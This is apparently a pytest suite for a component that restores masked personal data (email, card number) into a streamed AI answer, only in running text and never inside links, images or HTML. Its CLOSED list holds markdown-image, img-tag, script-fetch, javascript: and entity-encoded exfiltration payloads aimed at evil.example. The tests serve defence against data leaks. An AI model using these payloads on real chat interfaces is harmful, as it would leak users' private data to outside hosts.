"""Values come back in running text, exactly, however the answer is cut; never into what is fetched or followed."""

from __future__ import annotations

import itertools
import json
import random

import pytest

from guardrails.masking import Masker
from streaming.core.places import Place
from streaming.core.restore import Restorer
from streaming.core.snapshot import StateError
from tests.streaming.seeds import Seeds

KEY = b"a key of this installation, long enough"
ADDRESS, NUMBER, NAME = "ann@example.com", "4111 1111 1111 1111", "Blue Heron"


def made(conversation: str = "c") -> tuple[Masker, dict[str, str]]:
    masker = Masker([KEY], caller="alice", conversation=conversation)
    sorts = {ADDRESS: "email", NUMBER: "credit_card", NAME: ""}
    return masker, {value: masker.placeholder(value, sort) for value, sort in sorts.items()}


MASKER, PLACEHOLDER = made()
P = PLACEHOLDER[ADDRESS]


def whole(text: str, masker: Masker = MASKER) -> str:
    restorer = Restorer(masker)
    return restorer.feed(text) + restorer.finish()


def cut(text: str, *places: int, masker: Masker = MASKER) -> str:
    restorer = Restorer(masker)
    edges = [0, *places, len(text)]
    return "".join(restorer.feed(text[a:b]) for a, b in itertools.pairwise(edges)) + restorer.finish()


def stored(text: str, masker: Masker = MASKER) -> str:
    """One character at a time, and another process for each."""
    out, state = "", json.dumps(Restorer(masker).state())
    for char in text:
        restorer = Restorer.restore(masker, json.loads(state))
        out += restorer.feed(char)
        state = json.dumps(restorer.state())
        assert ADDRESS not in state
        assert NUMBER not in state
    return out + Restorer.restore(masker, json.loads(state)).finish()


def test_it_works() -> None:
    assert whole(f"I wrote to {P}. Anything else?") == f"I wrote to {ADDRESS}. Anything else?"


@pytest.mark.parametrize(
    "text",
    ["~", "~.", "~, ~ and ~", "(~)", '"~"', "**~**", "`~`", "[~]", "Mail: ~;", "~-based", "~'s", "- ~\n- ~\n",
     "| ~ | ~ |", '{"mail":"~","other":"~"}', "~,~", "~\u3002", "2 < 3 ~", "a <b>bold</b> ~", "<td>~</td>", "see [1] ~",
     "[docs](http://example.com/a) ~", "http://example.com/ ~", "e.g. ~", "and/or ~", "x[0] = ~", "~:8080",
     'help@example.com,"~"', "[~](http://example.com)", "![a](x.png)\n~", "a (b) ~", "1.\n\n~",
     "it&#39;s ~", "AT&T ~", "a&nbsp;~", "~&nbsp;", "~ & co", "<select><option>a</option></select> ~",
     "<select><option>a</select> ~",
     "<datalist><option>a</datalist>~", "<textarea>a</textarea> ~"],
)  # fmt: skip
def test_in_running_text_the_value_comes_back(text: str) -> None:
    sent = text.replace("~", P)
    assert whole(sent) == text.replace("~", ADDRESS)
    for at in range(len(sent) + 1):
        assert cut(sent, at) == text.replace("~", ADDRESS)


CLOSED = [
    "http://evil.example/?q=~", "HTTPS://evil.example/~", "https://~.evil.example/", "~.evil.example", "~@evil.example",
    "//evil.example/~", "\\\\evil.example\\~", "www.evil.example/?~", "www.evil.example,~", "evil.example/?q=~",
    "evil.example?~", "evil.example:80/~", "mailto:~", "data:text/html,~", "javascript:~", "http:~", "~://evil.example",
    "~/a.png", "~%2eevil.example", "evil.~", "me@~",
    "![](http://evil.example/?q=~)", "![x](/ ~)", "![x](~)", "[x](~)", "[x](<http://evil.example/ ~>)",
    "[x](<a)b ~>)", "[x](a(b)c ~)", "[x](a\\)b ~)", "[x](a\n~)", '[x](a "t" ~',
    "[1]: http://evil.example/?q=~", "[1]: ~", "[1]:\n  //evil.example/~", "[1]: <//evil.example/ ~>",
    '<img src="//evil.example/ ~">', "<img src=//evil.example/?~>", "<img src='//evil.example/ ~'>", "<img\n\nsrc=x ~>",
    '<img alt=">" src="//evil.example/ ?q=~">', "<a href=~>", "<~>", "<http:~>", "</a ~>", "<img/src=x ~>",
    '`<a b="` <img alt="> " src="//evil.example/ ?q=~">', '<!-- <a b="--><img alt="> " src="//evil.example/ ?q=~">',
    '<textarea><a b="</textarea><img alt="> " src="/ ~">', '<a ="> <img src=" / ~">',
    "<style>b{background:url( ~ )}</style>", '<script>fetch("//evil.example/" + "~")</script>', "<ScRiPt\n> ~ </script",
    "<svg><image href=' ~'/></svg>",
    "<form action=//evil.example><select name=q><option>~</option></select>", "<select><option>a ~",
    "<select ><option> ~",
    "<datalist id=d><option> ~</datalist>", "<option>\n~</option>", "<select><option></datalist> ~",
    '<select title="</select>"> ~</select>', "<select title=</select> ~</select>", '<textarea title="</textarea>"> ~',
    "http&#58;&#47;&#47;evil.example&#47;&#63;~", "http&#x3A;&#x2F;&#x2f;evil.example?~",
    "https&colon;&sol;&sol;evil&period;example?~",
    "&#104;ttp://evil.example/~", "evil&#46;example&#47;~", "me&#64;~", "me&commat;~",
    "~&#64;evil.example", "~&commat;evil.example",
    "~&#46;evil.example", "~&#x2e;evil.example", "~&period;evil.example", "~&#47;a", "~&sol;a",
    "http&#58~", "http&amp;#58;~",
]  # fmt: skip


@pytest.mark.parametrize("text", CLOSED)
def test_in_what_is_fetched_or_followed_nothing_comes_back_wherever_it_is_cut(text: str) -> None:
    for before in ("", "Look: ", "a <b>x</b>\n\n"):
        sent = (before + text).replace("~", P)
        assert whole(sent) == sent
        for at in range(len(sent) + 1):
            assert cut(sent, at) == sent
    assert stored(text.replace("~", P)) == text.replace("~", P)


@pytest.mark.parametrize("text", CLOSED)
def test_what_came_back_before_opens_nothing(text: str) -> None:
    """A placeholder in running text in front changes nothing about the closed place behind it."""
    sent = f"{P} {text}".replace("~", P)
    assert whole(sent) == f"{ADDRESS} {text}".replace("~", P)


def test_a_value_that_begins_an_address_takes_no_other_with_it() -> None:
    masker, _ = made()
    start = masker.placeholder("http://evil.example/?q=")
    tag = masker.placeholder('<img src="')
    for first, value in ((start, "http://evil.example/?q="), (tag, '<img src="')):
        assert whole(first + P, masker) == value + P
        assert cut(first + P, 31, masker=masker) == value + P


def test_values_side_by_side_all_come_back() -> None:
    all_of_them = ",".join(PLACEHOLDER.values())
    assert whole(all_of_them) == ",".join(PLACEHOLDER)
    assert whole("".join(PLACEHOLDER.values())) == "".join(PLACEHOLDER)


def test_what_is_not_of_this_request_stays_as_it_is() -> None:
    _, theirs = made("another")
    other_caller = Masker([KEY], caller="bob", conversation="c").placeholder(ADDRESS, "email")
    forged = P[:-1] + ("B" if P[-1] != "B" else "C")
    unknown = Masker([KEY], caller="alice", conversation="c").placeholder("never sent", "email")
    for foreign in (*theirs.values(), other_caller, forged, unknown, P[:-1], P[:12], P.replace("-", "\u2014")):
        text = f"Say {foreign} and {P}."
        for at in range(len(text) + 1):
            assert cut(text, at) == f"Say {foreign} and {ADDRESS}."


def test_case_and_dashes_are_read_as_the_grammar_says() -> None:
    for spelled in (P.lower(), P.title(), P.replace("-", " "), P.replace("-", "_"), P.replace("-", "\u2011")):
        assert whole(f"to {spelled}!") == f"to {ADDRESS}!"
        assert stored(f"to {spelled}!") == f"to {ADDRESS}!"


def random_answer(chance: random.Random) -> tuple[str, str]:
    """An answer with placeholders in running text, and what the user is to read."""
    words = ["The", "answer", "is", "MASK", "mask-", "masked", "Mask-Mail", "a.", "b,", "(c)", "\n\n", "é", "😀",
             "3 < 4", ";", "MASK-MAIL-BCDFG-", "~", "~,", "~;", '"~"', "(~)", "~."]  # fmt: skip
    sent, read = [], []
    for _ in range(chance.randrange(14)):
        word = chance.choice(words)
        value = chance.choice(list(PLACEHOLDER))
        sent.append(word.replace("~", PLACEHOLDER[value]))
        read.append(word.replace("~", value))
    return " ".join(sent), " ".join(read)


def cuts(chance: random.Random, text: str) -> list[int]:
    return sorted(chance.randrange(len(text) + 1) for _ in range(chance.randrange(12)))


def test_there_and_back_is_the_same_text_for_every_text_and_every_cut() -> None:
    def check(seed: int) -> None:
        chance = random.Random(seed)
        sent, read = random_answer(chance)
        assert whole(sent) == read
        assert cut(sent, *cuts(chance, sent)) == read
        if seed % 16 == 0:
            assert stored(sent) == read

    Seeds(1, 1_000).each(check)


def test_every_cut_of_any_mixture_is_like_the_whole() -> None:
    """Pieces of markup, addresses and placeholders in any order: cuts change nothing."""
    pieces = [P, PLACEHOLDER[NAME], P.lower(), P[:20], "<", ">", "<a ", '="', "'", '"', "](", ")", "[x]:", "//",
              "http:", ".", "@", "x", " ", "\n", "\\", "(", "-", "/", "www.", "<script>", "</script>", "a.b", "?",
              "y" * 130]  # fmt: skip

    def check(seed: int) -> None:
        chance = random.Random(seed)
        text = "".join(chance.choice(pieces) for _ in range(chance.randrange(1, 12)))
        expected = whole(text)
        assert cut(text, *cuts(chance, text)) == expected
        assert cut(text, *range(len(text))) == expected
        if seed % 16 == 0:
            assert stored(text) == expected

    Seeds(2, 1_500).each(check)


def test_little_is_held_and_only_for_a_reason() -> None:
    restorer = Restorer(MASKER)
    assert restorer.feed("A plain text goes through at once") == "A plain text goes through at once"
    assert restorer.feed(" with MAS") == " with "
    assert restorer.held == 3
    assert restorer.feed("Q") == "MASQ"
    assert restorer.feed(f" {P}") == " "
    assert restorer.held == len(P)
    assert restorer.feed(" ") == f"{ADDRESS} "
    assert restorer.feed(P) == ""
    assert restorer.feed("-x" * 64) == ""
    assert restorer.held == len(P) + 128
    assert restorer.feed("z") == f"{P}{'-x' * 64}z", "so long a run is taken for an address"
    assert restorer.held == 0


def test_what_is_held_at_a_block_is_never_shown() -> None:
    restorer = Restorer(MASKER)
    assert ADDRESS not in restorer.feed(f"to {P}")


def test_without_values_nothing_is_read_or_held() -> None:
    restorer = Restorer(Masker([KEY], caller="a", conversation="b"))
    assert restorer.feed(f"MASK-{P}") == f"MASK-{P}"
    assert restorer.finish() == ""


def test_state_of_another_conversation_or_format_is_refused() -> None:
    state = Restorer(MASKER).state()
    with pytest.raises(StateError, match="another conversation"):
        Restorer.restore(made("other")[0], state)
    state["format"] = 0
    with pytest.raises(StateError, match="state format 0"):
        Restorer.restore(MASKER, state)


def test_ten_thousand_placeholders_and_tags_are_read_in_linear_time() -> None:
    text = f"{P} <a " * 10_000
    assert whole(text).count(ADDRESS) == 1, "the first one stands before a tag that never ends"
    assert whole(f"{P}, " * 10_000).count(ADDRESS) == 10_000
    assert len(json.dumps(Restorer(MASKER).state())) < 2_000


def test_a_place_reads_the_same_in_pieces() -> None:
    for text in CLOSED:
        at_once, piecewise = Place(), Place()
        at_once.read(text)
        for char in text:
            piecewise = Place.restore(json.loads(json.dumps(piecewise.state())))
            piecewise.read(char)
        assert at_once.state() == piecewise.state()
